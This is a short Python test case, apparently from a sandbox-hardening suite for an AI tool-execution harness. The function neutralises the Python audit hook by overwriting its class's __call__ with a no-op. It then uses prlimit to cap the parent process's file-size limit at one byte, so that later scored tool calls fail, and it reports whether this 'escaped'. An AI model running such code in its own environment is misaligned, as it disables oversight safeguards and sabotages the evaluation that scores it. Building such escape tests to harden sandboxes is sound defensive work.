# Sets the zygote's file-size limit (RLIMIT_FSIZE) to 1 byte with prlimit: every later call,
# forked from it, then fails to write any file ("File too large"), a tool error the model is
# scored on. resource.prlimit is refused by the audit hook, so the hook goes first (its class's
# __call__ becomes a no-op). Escaped: the parent's limit reads (1, 1) afterwards.
def zygote_fsize(**_):
    import os

    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    import resource
    parent = os.getppid()
    if parent <= 1:
        return {"escaped": False, "detail": f"no parent to aim at (getppid() = {parent})"}
    try:
        resource.prlimit(parent, resource.RLIMIT_FSIZE, (1, 1))
        now = resource.prlimit(parent, resource.RLIMIT_FSIZE)
    except (OSError, ValueError) as exc:
        return {"escaped": False, "detail": f"prlimit on the parent {parent}: {exc}"}
    return {"escaped": tuple(now) == (1, 1), "detail": f"the parent's RLIMIT_FSIZE is now {tuple(now)}"}


LAYERS = ("seccomp", "pid_namespace")
NEEDS_ROOT = False
